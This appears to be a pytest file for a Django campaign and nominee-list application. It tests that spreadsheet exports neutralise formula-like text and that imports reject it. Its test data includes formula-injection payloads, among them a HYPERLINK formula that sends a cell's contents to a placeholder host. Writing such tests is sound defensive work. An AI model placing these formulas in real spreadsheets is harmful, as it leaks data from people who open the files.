"""Formula injection: a name that starts like a formula is written as text in every export (the sheet
XML holds no ``<f>`` element and keeps the text behind a single quote); imports refuse such names and
codes with a row error."""

import datetime
import io
import re
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from django.urls import reverse
from openpyxl import Workbook

from campaigns.exporters import attainment_workbook
from campaigns.importers import import_results
from campaigns.models import Result, Target, TargetBracket
from campaigns.selectors import attainment_rows
from emulation.importers import import_organisation
from emulation.models import Officer, Unit
from emulation.spreadsheets import cell_value, refuse_formula
from reports.workbooks import NomineeRow, nominee_list_workbook
from tests.emulation.workbooks import officer_row, unit_row
from tests.factories import OfficerFactory, UnitFactory

HOSTILE = ['=HYPERLINK("http://x"&B3,"a")', "+1", "-2+3", "@SUM(A1)", "\t=1"]
TODAY = datetime.date(2024, 6, 30)
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def formulas_and_texts(data: bytes) -> tuple[list[str], set[str]]:
    """The formulas of every sheet (``<f>`` elements) and every text the workbook holds."""
    formulas, texts = [], set()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if re.fullmatch(r"xl/(worksheets/sheet\d+|sharedStrings)\.xml", name):
                root = ElementTree.fromstring(archive.read(name))
                formulas += [f.text or "" for f in root.iter(f"{MAIN}f")]
                texts |= {t.text or "" for t in root.iter(f"{MAIN}t")}
    return formulas, texts


def assert_kept_as_text(data: bytes, values) -> None:
    formulas, texts = formulas_and_texts(data)
    assert formulas == []
    assert {"'" + value for value in values} <= texts


@pytest.mark.unit
@pytest.mark.parametrize(("value", "written"), [
    *[(value, "'" + value) for value in HOSTILE], ("\r=1", "'\r=1"), ("Nguyễn Văn An", "Nguyễn Văn An"),
    (-5, -5), (Decimal("-2.50"), Decimal("-2.50")), (None, None), (TODAY, TODAY),
])
def test_cell_value_neutralises_text_that_starts_like_a_formula(value, written):
    assert cell_value(value) == written


@pytest.mark.unit
def test_refuse_formula_names_the_reason():
    assert refuse_formula("HG-VT") == "HG-VT"
    with pytest.raises(ValueError, match="công thức"):
        refuse_formula("=1+1")


@pytest.fixture
def hostile_units(province):
    """Units of the province whose codes and names start like formulas, each with one such officer."""
    units = [UnitFactory(code=f"{value.strip()[:8]}{index}", name=value, parent=province)
             for index, value in enumerate(HOSTILE)]
    for index, (unit, value) in enumerate(zip(units, HOSTILE, strict=True)):
        OfficerFactory(unit=unit, full_name=value, code=f"{value.strip()[:8]}-{index}")
    return units


def stored_names(units) -> list[str]:
    """The names as saved (trimmed: the tab of ``"\t=1"`` is gone, its ``=`` stays)."""
    return [unit.name for unit in units]


@pytest.mark.integration
def test_organisation_template_writes_hostile_names_as_text(login, staff, hostile_units):
    data = login(staff).get(reverse("emulation:import_template")).content
    assert_kept_as_text(data, stored_names(hostile_units) + [u.code for u in hostile_units if u.code[0] in "+-@="])


@pytest.mark.integration
def test_results_template_writes_hostile_names_as_text(login, staff, province_plan, hostile_units):
    campaign = province_plan.campaigns.get()
    for unit in hostile_units:
        campaign.participations.create(unit=unit)
    data = login(staff).get(reverse("campaigns:results_template", args=[campaign.pk])).content
    assert_kept_as_text(data, stored_names(hostile_units) + [o.full_name for o in Officer.objects.all()])


@pytest.mark.integration
def test_attainment_table_writes_hostile_names_as_text(staff, province_plan, hostile_units):
    campaign = province_plan.campaigns.get()
    campaign.plan.issuer.name = HOSTILE[0]
    campaign.name = HOSTILE[1]
    target = Target.objects.create(campaign=campaign, code="3.1", title="Chi cục – về việc",
                                   metric_kind="completion_cases", subject_kind="sub_department", basis="cases_total")
    TargetBracket.objects.create(target=target, lower=0, upper=None, value=Decimal("76.00"))
    for unit in hostile_units:
        campaign.participations.create(unit=unit)
        Result.objects.create(campaign=campaign, unit=unit, as_of=datetime.date(2024, 6, 30), cases_total=900,
                              cases_with_conditions=800, cases_completed=600, status="confirmed")
    data = attainment_workbook(campaign, list(attainment_rows(staff, campaign)))
    assert_kept_as_text(data, [*stored_names(hostile_units), HOSTILE[1]])


@pytest.mark.unit
@pytest.mark.parametrize("with_votes", [False, True])
def test_nominee_lists_write_hostile_text_as_text(with_votes):
    """The proposal, campaign and council-session lists all go through this writer."""
    rows = [NomineeRow(name=value, position=value, unit=value, award=value, summary=value, verdict=value, note=value,
                       yes=3 if with_votes else None, percent=Decimal("-1.50") if with_votes else None,
                       outcome=value) for value in HOSTILE]
    data = nominee_list_workbook(rows, title_lines=HOSTILE[:3], with_votes=with_votes)
    assert_kept_as_text(data, HOSTILE)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert ("<v>-1.5</v>" in sheet_xml) == with_votes  # numbers stay numbers


def _text_cells_workbook(sheets: dict[str, list[list]]) -> io.BytesIO:
    """A workbook whose cells hold the values as stored text, the way a hostile file would."""
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for number, values in enumerate(rows, start=1):
            for column, value in enumerate(values, start=1):
                written = sheet.cell(row=number, column=column, value=value)
                if isinstance(value, str):
                    written.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


@pytest.mark.integration
def test_organisation_import_refuses_names_and_codes_that_start_like_formulas(staff, province):
    from emulation.importers import OFFICER_COLUMNS, OFFICER_SHEET, UNIT_COLUMNS, UNIT_SHEET

    file = _text_cells_workbook({
        UNIT_SHEET: [UNIT_COLUMNS, unit_row("HG-X", HOSTILE[0], "HG"), unit_row("+1", "Chi cục X", "HG")],
        OFFICER_SHEET: [OFFICER_COLUMNS, officer_row("CB-1", "@SUM(A1)", "HG"), officer_row("-2+3", "Lê Văn A", "HG")],
    })
    outcome = import_organisation(file, user=staff)
    assert [(e.sheet, e.row, e.column) for e in outcome.errors] == [
        ("Đơn vị", 2, "Tên đơn vị"), ("Đơn vị", 3, "Mã đơn vị"), ("Cán bộ", 2, "Họ và tên"), ("Cán bộ", 3, "Mã cán bộ")]
    assert all("công thức" in e.message for e in outcome.errors)
    assert (Unit.objects.filter(code__in=["HG-X", "+1"]).count(), Officer.objects.count()) == (0, 0)


@pytest.mark.integration
def test_results_import_refuses_codes_that_start_like_formulas(staff, province_plan):
    from campaigns.importers import OFFICER_COLUMNS, OFFICER_SHEET, UNIT_COLUMNS, UNIT_SHEET

    campaign = province_plan.campaigns.get()
    file = _text_cells_workbook({
        UNIT_SHEET: [UNIT_COLUMNS, ["=HG-VT", "", "30/06/2024", 10, 5, 1, 0, 0, 0]],
        OFFICER_SHEET: [OFFICER_COLUMNS],
    })
    outcome = import_results(file, campaign=campaign, user=staff)
    assert [(e.sheet, e.row, e.column) for e in outcome.errors if "công thức" in e.message] == [
        ("Đơn vị", 2, "Mã đơn vị")]
    assert Result.objects.count() == 0


@pytest.mark.unit
def test_append_rows_reuses_cells_without_carrying_values_between_rows():
    from openpyxl import load_workbook

    from emulation.spreadsheets import add_sheet, append_rows, streaming_workbook, workbook_bytes

    workbook = streaming_workbook()
    sheet = add_sheet(workbook, "Trang", ["Mã", "Tên", "Số"], [10, 30, 8], required={"Mã"})
    assert append_rows(sheet, [["A1", "=1+1", 5], ["B2"], [], [None, "Nguyễn Văn An", Decimal("2.50")]]) == 4
    data = workbook_bytes(workbook)
    book = load_workbook(io.BytesIO(data))["Trang"]
    assert [[c.value for c in row] for row in book.iter_rows()] == [
        ["Mã", "Tên", "Số"], ["A1", "'=1+1", 5], ["B2", None, None], [None, None, None],
        [None, "Nguyễn Văn An", 2.5]]
    assert [(c.font.b, c.font.color.rgb) for c in book[1]] == [(True, "00B02A37"), (True, "00000000"),
                                                               (True, "00000000")]
    assert (book.freeze_panes, book.column_dimensions["B"].width) == ("A2", 30)
    assert formulas_and_texts(data)[0] == []
